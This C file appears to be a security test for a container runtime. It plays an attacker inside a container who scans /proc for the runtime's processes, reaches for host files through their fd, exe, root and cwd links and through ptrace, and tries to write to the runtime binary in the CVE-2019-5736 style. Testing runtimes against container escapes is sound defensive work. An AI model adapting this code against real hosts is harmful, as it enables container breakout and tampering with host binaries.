/* An attacker who waits in a container for processes of the runtime to come in, and reaches into
 * each through /proc for something of the host's:
 *
 *     grab DEVICE INODE CANARY FILE MARK
 *
 * DEVICE and INODE (decimal, as stat -c '%d %i' prints them) are the runtime's program on the
 * host, CANARY is a file of the host's, as a path relative to its root. The runtime's processes
 * have MARK in their command lines. Runs until FILE exists; then it tries to write to what it got
 * of the program, by way of /proc/self/fd (CVE-2019-5736).
 *
 * Prints a line "seen N" with the number of looks at processes of the runtime, and a line "got …"
 * for each success. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define GOT_MAX 64
#define PIDS_AHEAD 6

struct grab {
    dev_t device;
    ino_t inode;
    const char *canary, *mark;
    bool may_trace;
    unsigned long seen;
    int got[GOT_MAX]; /* descriptors of the program */
    int got_count;
    int highest; /* the highest pid so far */
};

static void note(const char *what, int pid, const char *name)
{
    printf("got %s of process %d by %s\n", what, pid, name);
    fflush(stdout);
}

static void look_at_file(struct grab *grab, int fd, int pid, const char *name)
{
    struct stat status;
    if (fstat(fd, &status) < 0 || status.st_dev != grab->device || status.st_ino != grab->inode ||
        grab->got_count == GOT_MAX) {
        close(fd);
        return;
    }
    note("program", pid, name);
    grab->got[grab->got_count++] = fd;
}

/* From a directory upwards: does a step lead to the host's root? */
static void look_at_directory(struct grab *grab, int fd, int pid, const char *name)
{
    for (int step = 0; step < 16; step++) {
        if (faccessat(fd, grab->canary, F_OK, 0) == 0) {
            note("host", pid, name);
            break;
        }
        int up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (up < 0)
            break;
        close(fd);
        fd = up;
    }
    close(fd);
}

static void try(struct grab *grab, int process, int pid, const char *name)
{
    static const int flags[] = {O_PATH, O_RDONLY | O_NONBLOCK | O_NOCTTY};
    int fd = openat(process, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd >= 0) {
        look_at_directory(grab, fd, pid, name);
        return;
    }
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
        fd = openat(process, name, flags[i] | O_CLOEXEC);
        if (fd >= 0)
            look_at_file(grab, fd, pid, name);
    }
}

static void try_all_in(struct grab *grab, int process, int pid, const char *directory)
{
    int fd = openat(process, directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *entries = fd < 0 ? NULL : fdopendir(fd);
    struct dirent *entry;
    while (entries && (entry = readdir(entries))) {
        char name[300];
        snprintf(name, sizeof name, "%s/%s", directory, entry->d_name);
        if (entry->d_name[0] != '.')
            try(grab, process, pid, name);
    }
    if (entries)
        closedir(entries);
}

static bool has_text(int process, const char *name, const char *wanted)
{
    char text[2048];
    int fd = openat(process, name, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    ssize_t length = read(fd, text, sizeof text);
    close(fd);
    return length > 0 && memmem(text, (size_t)length, wanted, strlen(wanted));
}

/* Of this test's: in the host's pid namespace there may be others, who look after themselves. */
static bool is_runtime(const struct grab *grab, int process)
{
    return has_text(process, "comm", "hull-oci") && has_text(process, "cmdline", grab->mark);
}

/* With CAP_SYS_PTRACE one may trace everybody; without, the runtime's processes refuse. What was
 * the runtime's when it was looked at may be the container's own program by now, which doesn't
 * count; but it must be let go again, or its parent never hears of its end. */
static void try_to_trace(const struct grab *grab, int process, int pid)
{
    int status;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid &&
        WIFSTOPPED(status)) {
        if (is_runtime(grab, process))
            note("to trace", pid, "ptrace");
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

static void look_at_process(struct grab *grab, int pid)
{
    char path[32];
    snprintf(path, sizeof path, "/proc/%d", pid);
    int process = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (process < 0)
        return;
    if (pid > grab->highest)
        grab->highest = pid;
    if (is_runtime(grab, process)) {
        grab->seen++;
        try(grab, process, pid, "root");
        try(grab, process, pid, "cwd");
        try(grab, process, pid, "exe");
        try_all_in(grab, process, pid, "fd");
        try_all_in(grab, process, pid, "map_files");
        if (!grab->may_trace)
            try_to_trace(grab, process, pid);
    }
    close(process);
}

/* The next pids are tried again and again; all others once in a while. */
static void look_around(struct grab *grab)
{
    for (int round = 0; round < 200; round++) {
        for (int pid = grab->highest; pid <= grab->highest + PIDS_AHEAD; pid++) {
            if (pid != getpid())
                look_at_process(grab, pid);
        }
    }
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    while (processes && (entry = readdir(processes))) {
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid())
            look_at_process(grab, pid);
    }
    if (processes)
        closedir(processes);
}

/* A running program can't be written to; this one's processes end soon. */
static void write_to(int fd)
{
    char path[40];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int tries = 0; tries < 200; tries++) {
        int written = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (written >= 0) {
            if (write(written, "#overwritten", 12) == 12)
                printf("got to write to the program\n");
            close(written);
            return;
        }
        if (errno != ETXTBSY)
            return;
        usleep(10000);
    }
}

int main(int count, char **arguments)
{
    if (count != 6)
        return 2;
    struct grab grab = {.device = (dev_t)strtoull(arguments[1], NULL, 10),
                        .inode = (ino_t)strtoull(arguments[2], NULL, 10),
                        .canary = arguments[3],
                        .mark = arguments[5],
                        .may_trace = prctl(PR_CAPBSET_READ, CAP_SYS_PTRACE, 0, 0, 0) == 1,
                        .highest = getpid()};
    printf("ready\n");
    fflush(stdout);
    while (access(arguments[4], F_OK) < 0)
        look_around(&grab);
    for (int i = 0; i < grab.got_count; i++)
        write_to(grab.got[i]);
    printf("seen %lu\n", grab.seen);
    return 0;
}
